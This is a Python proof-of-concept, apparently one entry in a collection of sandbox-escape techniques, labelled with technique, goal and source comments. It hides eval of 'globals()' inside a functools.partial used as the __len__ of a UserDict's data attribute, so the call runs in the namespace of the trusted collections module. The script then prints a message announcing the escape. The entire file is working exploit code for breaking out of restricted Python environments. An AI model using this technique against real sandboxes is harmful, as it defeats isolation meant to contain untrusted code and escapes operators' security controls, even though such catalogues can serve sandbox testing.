# technique: UserDict asks the length of its data attribute, which is ours
# goal: globals
# source: own analysis: the default namespace of globals, below a trusted frame
import collections
import functools
kept = []
peek = functools.partial(next, map(kept.append, map(eval, ['globals()'])), 0)


class Data:
    __len__ = staticmethod(peek)


mine = collections.UserDict()
mine.data = Data()
try:
    len(mine)
except TypeError:
    pass
if kept[0]['__name__'] == 'collections':
    print('ESCAPED globals of collections')
